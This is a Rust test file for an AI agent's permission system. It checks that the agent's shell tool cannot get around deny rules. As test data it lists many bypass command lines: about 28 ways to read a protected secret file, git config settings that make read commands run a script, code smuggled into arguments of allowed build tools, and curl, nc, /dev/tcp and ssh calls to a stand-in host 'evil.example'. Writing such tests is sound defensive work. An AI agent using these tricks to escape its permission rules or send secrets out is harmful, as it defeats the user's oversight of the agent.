//! Tests command lines against rules in the real binary: denied paths, read-only commands, and
//! repositories that configure code.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::process::Command;

use serde_json::json;

use crate::support::{House, fixtures, library_name};

const RULES: &str = "home/.config/jaato/permissions.toml";

fn house_with_cli(rules: &str) -> Option<House> {
    let house = House::new()?;
    let plugins = fixtures::test_house()?.join("plugins");
    for plugin in ["environment_local", "tool_cli"] {
        house.ship(&plugins.join(library_name(plugin)));
    }
    house.write(RULES, &format!("version = 1\n{rules}"));
    house.write("workspace/a.txt", "some text\n");
    Some(house)
}

/// Runs command lines, one per answer. Returns the rule that decided about each, and its result.
fn run_lines(house: &House, options: &[&str], lines: &[&str]) -> Vec<(String, String)> {
    let call = |line: &&str| json!({ "steps": [{ "call": { "name": "cli_based_tool", "arguments": { "command": line } } }] });
    let mut answers: Vec<_> = lines.iter().map(call).collect();
    answers.push(json!({ "steps": [{ "text": "done" }] }));
    house.set_script(&json!({ "answers": answers }));
    let words: Vec<&str> = ["run", "--output", "json"].iter().chain(options).copied().collect();
    let output = house.command(&[words.as_slice(), &["go"]].concat()).run();
    let events = output.json_lines();
    let all = |name: &str| events.iter().filter(|event| event["event"] == name).collect::<Vec<_>>();
    let (decided, finished) = (all("permission_decided"), all("tool_call_finished"));
    assert_eq!((decided.len(), finished.len()), (lines.len(), lines.len()), "{output}");
    let pairs = decided.into_iter().zip(finished);
    pairs
        .map(|(decided, finished)| {
            let allowed = if decided["allowed"] == true { "allowed" } else { "denied" };
            let rule = format!("{allowed} {}", decided["rule"].as_str().unwrap());
            (rule, finished["result"].to_string())
        })
        .collect()
}

/// Ways to access a denied file, from a folder inside home.
const WAYS: [&str; 28] = [
    "cat ~/.vault/key",
    "cat ~//.vault//key",
    "cat ~/.v*t/key",
    "cat ~/.vaul?/key",
    "cat ~/.[v]ault/key",
    "cat ../home/.*/key",
    "cat ~/.{vault,x}/key",
    "cd; cat .vault/key",
    "cd && cat .vault/key",
    "cd ~; cat .vault/key",
    "cd nowhere; cd; cat .vault/key",
    "(cd; cat .vault/key)",
    "cat link",
    "cat l*",
    "cat ./li?k",
    "cat far/../key",
    "cat far/../../.vault/key",
    "cat < ~/.vault/key",
    "cat $HOME/.vault/key",
    "x=~/.vault/key; cat $x",
    "echo ~/.vault/key | xargs cat",
    "ls -d ~/.v* | xargs -I{} cat {}/key",
    "find ~ -name key -exec cat {} +",
    "grep -r SECRET ~",
    "tar cf - -C ~ .vault | cat",
    "sed -n 'r '$HOME'/.vault/key' a.txt",
    "cat ${x:-~/.vault/key}",
    "dd if=$HOME/.vault/key status=none",
];

#[test]
fn denied_path_cannot_be_read_by_any_command() {
    let deny = "[[rules]]\ndecision = \"deny\"\npath = \"~/.vault\"\n";
    let allow = "[[rules]]\ndecision = \"allow\"\ncommand = \"cat\"\n\
                 [[rules]]\ndecision = \"allow\"\ncommand = \"cd\"\n";
    let Some(house) = house_with_cli(&format!("{deny}{allow}")) else { return };
    house.write("home/.vault/key", "TOP-SECRET\n");
    house.write("home/.vault/sub/x", "x\n");
    let vault = house.workspace().parent().unwrap().join("home/.vault");
    symlink(vault.join("key"), house.workspace().join("link")).unwrap();
    symlink(vault.join("sub"), house.workspace().join("far")).unwrap();
    for options in [&[][..], &["--yes"]] {
        for (line, (rule, result)) in WAYS.iter().zip(run_lines(&house, options, &WAYS)) {
            assert!(rule.starts_with("denied"), "{options:?} {line}: {rule} {result}");
            assert!(!result.contains("SECRET"), "{options:?} {line}: {result}");
        }
    }
    let others = ["cat a.txt", "cat *.txt", "cd . && ls"];
    let done = run_lines(&house, &["--yes"], &others);
    assert!(done.iter().all(|(rule, _)| rule.starts_with("allowed")), "{done:?}");
}

#[test]
fn read_only_commands_in_the_workspace_run_in_every_mode() {
    let Some(house) = house_with_cli("") else { return };
    let lines =
        ["ls", "cat a.txt", "cat *.txt | wc -l", "grep -rn text . && pwd", "find . -name a.txt"];
    for mode in ["ask", "accept-edits", "read-only", "plan"] {
        for (line, (rule, result)) in lines.iter().zip(run_lines(&house, &["--mode", mode], &lines))
        {
            assert_eq!(rule, "allowed file.allow", "{mode} {line}: {result}");
        }
    }
    let outside = ["cat /etc/hostname", "ls ..", "cat ~/.config/jaato/permissions.toml", "cd; ls"];
    let changing =
        ["touch b", "echo x > b", "sed -n 'w b' a.txt", "find . -delete", "sort -o b a.txt"];
    let lines: Vec<&str> = outside.into_iter().chain(changing).collect();
    for (line, (rule, _)) in lines.iter().zip(run_lines(&house, &[], &lines)) {
        assert!(rule.starts_with("denied"), "{line}: {rule}");
    }
    assert!(!house.workspace().join("b").exists());
}

#[test]
fn user_can_disable_or_override_shipped_rules() {
    let deny = "[[rules]]\ndecision = \"deny\"\ncommand = \"cat\"\n";
    for (rules, line) in
        [("shipped_rules = false\n", "ls"), ("default = \"deny\"\n", "ls"), (deny, "cat a.txt")]
    {
        let Some(house) = house_with_cli(rules) else { return };
        let done = run_lines(&house, &[], &[line]);
        assert!(done[0].0.starts_with("denied"), "{rules}: {done:?}");
    }
}

fn run_git(house: &House, words: &[&str]) {
    let mut command = Command::new("git");
    command.args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(words);
    command.env("GIT_CONFIG_GLOBAL", "/dev/null").current_dir(house.workspace());
    assert!(command.output().unwrap().status.success(), "{words:?}");
}

#[test]
fn git_reads_are_allowed_unless_the_repository_configures_programs() {
    let lines = ["git status", "git diff", "git log -p -1", "git show", "git --no-pager log"];
    let Some(house) = house_with_cli("") else { return };
    run_git(&house, &["init", "-q"]);
    run_git(&house, &["add", "a.txt"]);
    run_git(&house, &["commit", "-qm", "a"]);
    for (line, (rule, result)) in lines.iter().zip(run_lines(&house, &[], &lines)) {
        assert_eq!(rule, "allowed file.allow", "{line}: {result}");
    }
    house.write("workspace/x.sh", "#!/bin/sh\ntouch \"$(dirname \"$0\")/ran\"\ncat\n");
    let script = house.workspace().join("x.sh");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    let script = script.display().to_string();
    house.write("workspace/.gitattributes", "*.txt diff=x filter=x\n");
    let configured = [
        ("core.fsmonitor", script.as_str()),
        ("core.pager", &script),
        ("diff.external", &script),
        ("diff.x.textconv", &script),
        ("diff.x.command", &script),
        ("filter.x.clean", &script),
        ("gpg.program", &script),
        ("log.showSignature", "true"),
        ("core.hooksPath", "."),
        ("alias.status", "!touch ran"),
    ];
    for (key, value) in configured {
        run_git(&house, &["config", key, value]);
        house.write("workspace/a.txt", &format!("changed for {key}\n"));
        for (line, (rule, _)) in lines.iter().zip(run_lines(&house, &[], &lines)) {
            assert!(rule.starts_with("denied"), "{key} {line}: {rule}");
        }
        assert!(!house.workspace().join("ran").exists(), "{key}");
        let mut command = Command::new("git");
        command.args(["config", "--unset", key]).current_dir(house.workspace());
        assert!(command.status().unwrap().success());
    }
}

/// Returns the rules' decision about a command line in a trusted workspace.
fn explain_line(house: &House, line: &str) -> String {
    let arguments = json!({ "command": line }).to_string();
    let said = house.run(&["permission", "explain", "cli_based_tool", &arguments]).code(0).stdout;
    said.split(':').next().unwrap().to_owned()
}

#[test]
fn allow_rule_for_a_build_tool_excludes_arguments_that_run_code() {
    let rule =
        |command: &str| format!("[[rules]]\ndecision = \"allow\"\ncommand = \"{command}\"\n");
    let commands = ["make test", "just", "npm run", "pytest", "eslint", "jest"];
    let Some(house) = house_with_cli(&commands.map(rule).concat()) else { return };
    house.run(&["trust"]).code(0);
    for line in ["make test", "pytest -q", "pytest tests", "eslint src", "jest"] {
        assert_eq!(explain_line(&house, line), "allow", "{line}");
    }
    for line in [
        "make test 'test-$(touch${IFS}P)'",
        "make test '`touch P`'",
        "make test SHELL=./sh",
        "make test -f ../evil.mk",
        "make test -C ../evil",
        "just '$(touch P)'",
        "npm run 'x; touch P'",
        "pytest ../evil",
        "pytest /tmp/evil",
        "pytest --rootdir=../evil",
        "pytest -c ../evil/pytest.ini",
        "pytest -p evil",
        "eslint /tmp/evil",
        "eslint --config ../evil.js src",
        "jest --rootDir ../evil",
        "cd ../evil && pytest",
    ] {
        assert_eq!(explain_line(&house, line), "ask", "{line}");
    }
}

#[test]
fn a_denied_host_is_found_in_every_spelling() {
    let rules = "[[rules]]\ndecision = \"deny\"\nhost = \"evil.example\"\n\
                 [[rules]]\ndecision = \"allow\"\ntool = \"cli_based_tool\"\n";
    let Some(house) = house_with_cli(rules) else { return };
    house.run(&["trust"]).code(0);
    assert_eq!(explain_line(&house, "curl https://good.example/x"), "allow");
    for line in [
        "curl evil.example/x",
        "curl -s EVIL.example",
        "curl evil.example.:8080",
        "curl http:/evil.example/x",
        "curl //evil.example",
        "wget evil.example",
        "curl --proxy=evil.example good.example",
        "curl -x evil.example:3128 good.example",
        "curl --connect-to ::evil.example: good.example",
        "curl --resolve good.example:443:evil.example good.example",
        "scp a evil.example:b",
        "rsync a evil.example::m",
        "ssh evil.example ls",
        "ssh -J evil.example good.example",
        "git clone git@evil.example:r.git",
        "git clone evil.example:r.git",
        "nc evil.example 80",
        "ping evil.example",
        "echo x > /dev/tcp/evil.example/80",
        "h=evil.example; curl $h",
        "curl ev{i,o}l.example",
        "bash -c 'curl evil.example'",
    ] {
        assert_ne!(explain_line(&house, line), "allow", "{line}");
    }
}
